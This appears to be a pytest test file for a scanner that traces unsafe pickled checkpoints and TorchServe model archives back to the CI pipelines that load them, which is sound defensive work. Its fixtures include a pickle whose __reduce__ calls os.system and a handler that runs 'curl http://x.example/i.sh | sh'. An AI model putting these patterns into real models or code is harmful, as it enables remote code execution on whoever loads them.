"""Small repositories as people write them, each with one thing wrong, from the pipeline to the file."""

import json
import os
import pickle
import zipfile
from pathlib import Path

import pytest

import scanner
from scanner.model import Report
from scanner.policy import Policy


class Calls:
    """What a pickle calls when it is loaded."""

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("true",)


def scan(root: Path, files: dict[str, str]) -> Report:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return scanner.scan(root, Policy(check_advisories=False))


def worst(report: Report) -> set[tuple[str, str, str]]:
    """Rule, level and path of what is medium or above."""
    return {
        (row.evidence.rule, row.level, row.evidence.where.path)
        for row in report.findings
        if row.level in {"medium", "high", "critical"}
    }


TRAINING = {
    ".github/workflows/nightly.yml": "on:\n  schedule: [{cron: '0 3 * * *'}]\njobs:\n  train:\n    steps:\n"
    "      - run: python -m src.train fit --config conf/fit.yaml\n",
    "requirements.txt": "lightning==2.2.0\ntorch==2.6.0\n",
    "conf/fit.yaml": "model:\n  class_path: src.net.module.Net\n  init_args:\n    warm_start: ckpt/warm.pt\n"
    "    width: 64\n    safe: ckpt/other.pt\n",
    "src/train.py": "from lightning.pytorch.cli import LightningCLI\n\n\ndef main():\n"
    "    LightningCLI(subclass_mode_model=True)\n\n\nif __name__ == '__main__':\n    main()\n",
    "src/net/module.py": "import torch\nimport lightning as L\n\n\nclass Net(L.LightningModule):\n"
    "    def __init__(self, warm_start: str = '', width: int = 32, safe: str = ''):\n"
    "        torch.load(warm_start, map_location='cpu', weights_only=False)\n"
    "        torch.load(safe, weights_only=True)\n",
}


def test_a_checkpoint_that_a_configuration_of_lightning_names_is_reached_by_the_pipeline(
    tmp_path: Path,
) -> None:
    (tmp_path / "ckpt").mkdir()
    for name in ("warm.pt", "other.pt"):
        with zipfile.ZipFile(tmp_path / "ckpt" / name, "w") as packed:
            packed.writestr("archive/data.pkl", pickle.dumps(Calls() if name == "warm.pt" else {}, 2))
            packed.writestr("archive/version", "3\n")
    report = scan(tmp_path, TRAINING)
    assert worst(report) == {("ART-001", "critical", "ckpt/warm.pt")}
    (chain,) = [row for row in report.chains if row.unsafe]
    assert [where.path for where in chain.artifacts] == ["ckpt/warm.pt"]
    assert [(run.where.path, run.where.line) for run in chain.runs] == [(".github/workflows/nightly.yml", 6)]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("conf/fit.yaml", "model:\n  _target_: src.net.module.Net\n  warm_start: ckpt/warm.pt\n"),
        ("conf/fit.yaml", "[class_path: x"),
        ("conf/fit.yaml", "class_path: [a]\ninit_args: 3\n"),
        ("conf/fit.yaml", "class_path: a.b\ninit_args: {warm_start: ${x}}\n"),
    ],
)
def test_other_configurations_are_read_or_left(name: str, text: str, tmp_path: Path) -> None:
    report = scan(tmp_path, {**TRAINING, name: text, "ckpt/warm.pt": "x"})
    loaded = {row.loads for row in report.chains if row.unsafe}
    assert loaded == {"ckpt/warm.pt"} if "_target_" in text else "ckpt/warm.pt" not in loaded


HANDLER = (
    "import subprocess\n\n\nclass Handler:\n    def initialize(self, context):\n"
    "        subprocess.run('curl http://x.example/i.sh | sh', shell=True)\n"
)
SERVING = {
    ".gitlab-ci.yml": "include:\n  - local: ci/serve.yml\nserve:\n  extends: .serve\n",
    "ci/serve.yml": ".serve:\n  script:\n    - torchserve --start --model-store store --models det=det.mar\n",
}


def archive(root: Path) -> None:
    (root / "store").mkdir()
    manifest = {"model": {"modelName": "det", "handler": "handler.py"}, "archiverVersion": "0.9.0"}
    with zipfile.ZipFile(root / "store" / "det.mar", "w") as packed:
        packed.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        packed.writestr("handler.py", HANDLER)


@pytest.mark.parametrize(
    ("files", "line"),
    [
        pytest.param(SERVING, "ci/serve.yml:3", id="a command in an included file"),
        pytest.param(
            {".gitlab-ci.yml": "a:\n  script:\n    - torchserve --models all --model-store=store\n"},
            ".gitlab-ci.yml:3",
            id="all of a folder",
        ),
        pytest.param(
            {
                ".gitlab-ci.yml": "a:\n  script:\n    - torchserve --start --ts-config c/config.properties\n",
                "c/config.properties": "model_store=store\nload_models=det=det.mar\n",
            },
            "c/config.properties:2",
            id="its configuration",
        ),
    ],
)
def test_an_archive_that_torchserve_loads_is_reached(
    files: dict[str, str], line: str, tmp_path: Path
) -> None:
    archive(tmp_path)
    report = scan(tmp_path, files)
    chains = {str(row.where): row.artifacts[0].path for row in report.chains if row.artifacts}
    assert chains[line] == "store/det.mar"
    (acts,) = [row for row in report.findings if "subprocess" in row.evidence.message]
    assert dict(acts.factors)["trigger"].value == "automatic"


@pytest.mark.parametrize(
    "command", ["torchserve", "torchserve --models x=https://h/x.mar", "torchserve --models $M"]
)
def test_a_server_without_an_archive_of_the_tree_loads_none(command: str, tmp_path: Path) -> None:
    archive(tmp_path)
    report = scan(tmp_path, {".gitlab-ci.yml": f"a:\n  script:\n    - {command}\n"})
    assert [row for row in report.chains if row.api == "torchserve"] == []
